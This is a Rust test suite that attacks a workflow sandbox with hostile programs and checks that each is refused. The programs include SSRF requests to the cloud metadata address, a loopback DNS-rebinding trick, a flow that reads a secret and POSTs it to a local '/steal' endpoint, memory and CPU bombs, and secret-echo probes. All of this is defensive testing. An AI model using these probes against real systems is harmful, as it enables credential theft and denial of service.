//! The sandbox, tried as a hostile program would: each probe of issue 11
//! (reaching this machine or cloud metadata, redirects and DNS names that
//! point inward, sending what it read elsewhere, CPU-bound work past the
//! deadline, endless answers and values) is refused or bounded with a
//! coded error. Servers listen on 127.0.0.1 and play the metadata endpoint
//! and the exfiltration target.

use flow_vm::test_support::{compile, run};
use flow_vm::{Engine, ErrorKind, Limits, NetAccess, RunOptions, RunStatus};
use serde_json::json;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::time::Duration;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

fn rule(text: &str) -> flow_vm::NetRule {
    text.parse().expect("a rule")
}

fn start_error(engine: &Engine, source: &str, flow: &str) -> String {
    let program = compile(engine, source);
    match engine.start(&program, RunOptions::new(flow, json!({}))) {
        Ok(_) => panic!("the run started"),
        Err(e) => e.to_string(),
    }
}

fn failure(outcome: &flow_vm::RunOutcome) -> (ErrorKind, String) {
    let error = outcome.error.as_ref().unwrap_or_else(|| panic!("no error: {:?}", outcome.output));
    (error.kind, error.message.clone())
}

#[tokio::test]
async fn metadata_and_this_machine_are_refused_before_anything_is_sent() {
    let metadata = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "role": "admin" })))
        .mount(&metadata)
        .await;
    let base = metadata.uri();
    for url in [format!("{base}/latest/meta-data/iam"), "http://169.254.169.254/latest/meta-data/".into()] {
        let source = format!(
            "tool md() -> {{ role: string }} = http GET \"{url}\"\nflow f() -> string {{\n  step m = md()\n  return m.role\n}}\n"
        );
        let error = start_error(&Engine::new(), &source, "f");
        assert!(error.contains("E0616") && error.contains("network policy"), "{error}");
    }
    assert!(metadata.received_requests().await.unwrap_or_default().is_empty(), "nothing reached the server");
}

/// A host name that resolves to this machine is checked by its address,
/// after resolution: the name alone would pass.
#[tokio::test]
async fn names_are_judged_by_the_addresses_they_resolve_to() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "ok": true })))
        .mount(&server)
        .await;
    let port = server.address().port();
    // A name of this machine other than `localhost` (which is refused by name).
    let hosts = std::fs::read_to_string("/etc/hosts").unwrap_or_default();
    let name = hosts
        .lines()
        .filter(|l| l.starts_with("127.") || l.starts_with("::1"))
        .flat_map(|l| l.split_whitespace().skip(1))
        .find(|n| !n.contains("localhost") && !n.starts_with('#') && !n.contains("ip6"));
    let Some(name) = name else {
        eprintln!("no name for this machine in /etc/hosts besides localhost: the resolver's unit tests cover it");
        return;
    };
    let source = format!(
        "tool t() -> {{ ok: bool }} = http GET \"http://{name}:{port}/x\"\nflow f() -> bool {{\n  step r = t()\n  return r.ok\n}}\n"
    );
    let (outcome, _) = run(&Engine::new(), &source, "f", json!({})).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("resolves to") && message.contains("loopback"), "{message}");
    assert!(server.received_requests().await.unwrap_or_default().is_empty());
    // Allowed by name, the same request goes through.
    let (outcome, _) = run(&Engine::new().allow_net(rule(name)), &source, "f", json!({})).await;
    assert_eq!(outcome.output, Some(json!(true)), "{:?}", outcome.error);
}

/// The allow list opens exactly one server; a redirect from it to another
/// port of the same machine is checked again and refused, and with
/// `NetAccess::Allowed` a program cannot send what it read anywhere else.
#[tokio::test]
async fn redirects_and_exfiltration_are_checked_against_the_allow_list() {
    let allowed = MockServer::start().await;
    let target = MockServer::start().await;
    Mock::given(path("/secret"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "text": "s3cret" })))
        .mount(&allowed)
        .await;
    Mock::given(path("/hop"))
        .respond_with(ResponseTemplate::new(302).insert_header("location", format!("{}/steal", target.uri())))
        .mount(&allowed)
        .await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({ "ok": true })))
        .mount(&target)
        .await;
    let source = format!(
        "tool read() -> {{ text: string }} = http GET \"{a}/secret\"
tool hop() -> {{ ok: bool }} = http GET \"{a}/hop\"
tool send(data: string) -> {{ ok: bool }} = http POST \"{t}/steal\"
flow redirect() -> bool {{\n  step r = hop()\n  return r.ok\n}}
flow exfiltrate() -> bool {{\n  step s = read()\n  step sent = send(data: s.text)\n  return sent.ok\n}}
",
        a = allowed.uri(),
        t = target.uri()
    );
    let host = Engine::new().net_access(NetAccess::Allowed).allow_net(rule(&allowed.address().to_string()));
    let (outcome, _) = run(&host, &source, "redirect", json!({})).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("a redirect to") && message.contains("not among"), "{message}");
    let error = start_error(&host, &source, "exfiltrate");
    assert!(error.contains("E0616") && error.contains("send"), "{error}");
    assert!(target.received_requests().await.unwrap_or_default().is_empty(), "nothing reached the target");
}

/// A pure step that would run for many seconds is stopped at the deadline:
/// the evaluator looks at it while it loops. (Real time: the work is
/// CPU-bound, and a paused clock does not move while the CPU is busy.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_deadline_preempts_cpu_bound_pure_work() {
    let source = "flow spin(xs: [int]) -> int {
  step total = sum(xs.map(a => xs.map(b => a * b + 1).count(v => v > 100)))
  return total
}
";
    let xs: Vec<i64> = (0..5_000).collect();
    let engine = Engine::new().limits(Limits::default().max_run_time(Duration::from_millis(200)));
    let (outcome, _) = run(&engine, source, "spin", json!({ "xs": xs })).await;
    assert_eq!(outcome.status, RunStatus::TimedOut, "{:?}", outcome.error);
    let (kind, _) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Timeout);
}

/// Flows that call themselves through maps, growing without awaiting
/// anything, are stopped at the deadline too (between steps).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_deadline_preempts_a_recursive_fan_out() {
    let source = "flow fan(n: int) -> int {
  step parts = map i in [1, 2, 3, 4] {
    step deeper = when n < 40 { fan(n: n + 1) }
    return (deeper ?? 0) + i
  }
  return sum(parts)
}
";
    let engine = Engine::new().limits(Limits::default().max_run_time(Duration::from_millis(300)).max_depth(50));
    let (outcome, _) = run(&engine, source, "fan", json!({ "n": 0 })).await;
    assert_eq!(outcome.status, RunStatus::TimedOut, "{:?}", outcome.error);
}

/// An answer that never ends is cut at the answer limit as it arrives.
#[tokio::test]
async fn an_endless_http_body_is_cut_at_the_answer_limit() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let address = listener.local_addr().expect("address");
    std::thread::spawn(move || {
        if let Ok((mut socket, _)) = listener.accept() {
            let mut request = [0u8; 4096];
            let _ = socket.read(&mut request);
            let _ = socket.write_all(b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n[");
            let chunk = b"1,".repeat(32 * 1024);
            // Until the client hangs up.
            while socket.write_all(&chunk).is_ok() {}
        }
    });
    let source = format!(
        "tool endless() -> [int] = http GET \"http://{address}/\"\nflow f() -> int {{\n  step xs = endless()\n  return len(xs)\n}}\n"
    );
    let engine =
        Engine::new().allow_net(rule(&address.to_string())).limits(Limits::default().max_answer_bytes(1 << 20));
    let (outcome, _) = run(&engine, &source, "f", json!({})).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("longer than 1 MiB") && message.contains("max_answer_bytes"), "{message}");
}

/// A command printing forever is stopped at the answer limit.
#[tokio::test]
async fn a_command_printing_forever_is_stopped_at_the_answer_limit() {
    let source = "tool chatty() -> string = command [\"yes\", \"flow\"]\nflow f() -> string {\n  step s = chatty()\n  return s\n}\n";
    let engine = Engine::new().allow_commands(true).limits(Limits::default().max_answer_bytes(1 << 20));
    let (outcome, _) = run(&engine, source, "f", json!({})).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("`yes` printed more than 1 MiB"), "{message}");
}

/// Forty steps doubling a string stop at the value limit, naming the step.
#[tokio::test]
async fn values_that_double_stop_at_the_value_limit() {
    let mut source = String::from("flow grow(seed: string) -> int {\n  step s0 = seed\n");
    for i in 1..40 {
        source.push_str(&format!("  step s{i} = s{} + s{}\n", i - 1, i - 1));
    }
    source.push_str("  return len(s39)\n}\n");
    let engine = Engine::new().limits(Limits::default().max_value_bytes(1 << 20));
    let (outcome, _) = run(&engine, &source, "grow", json!({ "seed": "abcdefgh" })).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("max_value_bytes"), "{message}");
    let step = outcome.error.as_ref().map(|e| e.step.clone()).unwrap_or_default();
    assert_eq!(step, "grow/s17", "8 bytes doubled 17 times is 1 MiB; the 18th doubling is refused");
}

/// One expression that would build a list of millions of items, or a huge
/// string, is refused before it is allocated.
#[tokio::test]
async fn one_expression_cannot_build_a_huge_list_or_string() {
    let source = "flow bomb(xs: [int]) -> int {
  step all = xs.map(x => xs).flatten()
  return len(all)
}
flow words(xs: [int]) -> int {
  step text = xs.map(x => \"0123456789\").join(\"\")
  step big = text.replace(\"0\", text)
  return len(big)
}
";
    let xs: Vec<i64> = (0..10_000).collect();
    let engine = Engine::new();
    let (outcome, _) = run(&engine, source, "bomb", json!({ "xs": xs })).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    // Ten thousand copies of a ten-thousand-item list are over the value limit as they are built.
    assert!(message.contains("the list being built") && message.contains("max_value_bytes"), "{message}");
    let (outcome, _) = run(&engine, source, "words", json!({ "xs": xs })).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Limit, "{message}");
    assert!(message.contains("max_value_bytes"), "{message}");

    // Results each under the limit cannot together be over it; a string of
    // separators is not split into millions of pieces; values are measured
    // before they leave as a tool's arguments.
    let more = "tool sink(data: [string]) -> bool
flow copies(xs: [int], s: string) -> int {
  step all = xs.map(x => s + \"!\")
  return len(all)
}
flow pieces(s: string) -> int {
  step parts = s.split(\",\")
  return len(parts)
}
flow send(xs: [int], s: string) -> bool {
  step sent = sink(data: xs.map(x => s))
  return sent
}
";
    let small =
        Engine::new().mock_tools(true).limits(Limits::default().max_value_bytes(1 << 20).max_list_items(100_000));
    let s = "x".repeat(16 * 1024);
    for (flow, input, expected) in [
        ("copies", json!({ "xs": (0..2_000).collect::<Vec<_>>(), "s": s }), "the list being built"),
        ("pieces", json!({ "s": ",".repeat(500_000) }), "max_list_items"),
        ("send", json!({ "xs": (0..2_000).collect::<Vec<_>>(), "s": s }), "max_value_bytes"),
    ] {
        let (outcome, _) = run(&small, more, flow, input).await;
        let (kind, message) = failure(&outcome);
        assert_eq!(kind, ErrorKind::Limit, "{flow}: {message}");
        assert!(message.contains(expected), "{flow}: {message}");
    }
}

/// A `catch` cannot swallow the deadline: a stopped run catches nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_catch_cannot_outlive_the_deadline() {
    let source = "flow spin(xs: [int]) -> int {
  step total = sum(xs.map(a => sum(xs.map(b => a * b)))) catch => 0
  return total
}
";
    let xs: Vec<i64> = (0..5_000).collect();
    let engine = Engine::new().limits(Limits::default().max_run_time(Duration::from_millis(200)));
    let (outcome, _) = run(&engine, source, "spin", json!({ "xs": xs })).await;
    assert_eq!(outcome.status, RunStatus::TimedOut, "{:?}", outcome.output);
}

/// A secret goes only where the host grants it, never to a redirect, and
/// never back to the program or into an error, even when the service
/// echoes it.
#[tokio::test]
async fn secrets_go_only_to_granted_hosts_and_are_redacted() {
    let service = MockServer::start().await;
    Mock::given(path("/echo"))
        .respond_with(|request: &wiremock::Request| {
            let token = request.headers.get("authorization").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
            ResponseTemplate::new(200).set_body_json(json!({ "seen": token }))
        })
        .mount(&service)
        .await;
    Mock::given(path("/fail"))
        .respond_with(|request: &wiremock::Request| {
            let token = request.headers.get("authorization").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
            ResponseTemplate::new(403).set_body_string(format!("bad token {token}"))
        })
        .mount(&service)
        .await;
    Mock::given(path("/hop"))
        .respond_with(ResponseTemplate::new(302).insert_header("location", format!("{}/echo", service.uri())))
        .mount(&service)
        .await;
    let base = service.uri();
    let source = format!(
        "tool echo() -> {{ seen: string }} = http GET \"{base}/echo\" {{ headers: {{ Authorization: secret(\"API_TOKEN\") }} }}
tool fail() -> {{ seen: string }} = http GET \"{base}/fail\" {{ headers: {{ Authorization: secret(\"API_TOKEN\") }} }}
tool hop() -> {{ seen: string }} = http GET \"{base}/hop\" {{ headers: {{ Authorization: secret(\"API_TOKEN\") }} }}
flow echo_it() -> string {{\n  step r = echo()\n  return r.seen\n}}
flow fail_it() -> string {{\n  step r = fail()\n  return r.seen\n}}
flow hop_it() -> string {{\n  step r = hop()\n  return r.seen\n}}
"
    );
    let local = Engine::new().allow_net(rule("127.0.0.1"));
    // Not granted: refused before anything is sent.
    let error = start_error(&local, &source, "echo_it");
    assert!(error.contains("E0617") && error.contains("API_TOKEN") && error.contains("--secret API_TOKEN@"), "{error}");
    // Granted for another host: refused too.
    let elsewhere = local.clone().secret("API_TOKEN", "tok-123", &[rule("api.example.com")]);
    let error = start_error(&elsewhere, &source, "echo_it");
    assert!(error.contains("E0617") && error.contains("only for api.example.com"), "{error}");
    assert!(service.received_requests().await.unwrap_or_default().is_empty());

    let granted = local.secret("API_TOKEN", "tok-123", &[rule(&service.address().to_string())]);
    let (outcome, events) = run(&granted, &source, "echo_it", json!({})).await;
    assert_eq!(outcome.output, Some(json!("[secret API_TOKEN]")), "the service saw it; the program did not");
    let requests = service.received_requests().await.unwrap_or_default();
    assert_eq!(requests[0].headers.get("authorization").and_then(|v| v.to_str().ok()), Some("tok-123"));
    let (outcome, events_failed) = run(&granted, &source, "fail_it", json!({})).await;
    let (kind, message) = failure(&outcome);
    assert_eq!(kind, ErrorKind::Tool);
    assert!(message.contains("bad token [secret API_TOKEN]") && !message.contains("tok-123"), "{message}");
    // Over plain http to anything but this machine, a secret is not sent.
    let plain = "tool t() -> { ok: bool } = http GET \"http://api.example.com/x\" { headers: { Authorization: secret(\"API_TOKEN\") } }\nflow f() -> bool {\n  step r = t()\n  return r.ok\n}\n";
    let host = Engine::new().secret("API_TOKEN", "tok-123", &[rule("api.example.com")]);
    let error = start_error(&host, plain, "f");
    assert!(error.contains("E0617") && error.contains("only over https"), "{error}");
    let (outcome, _) = run(&granted, &source, "hop_it", json!({})).await;
    let (_, message) = failure(&outcome);
    assert!(message.contains("302") && message.contains("does not follow"), "{message}");
    let log = flow_vm::test_support::jsonl(&[events, events_failed].concat());
    assert!(!log.contains("tok-123"), "no event carries the secret");
}
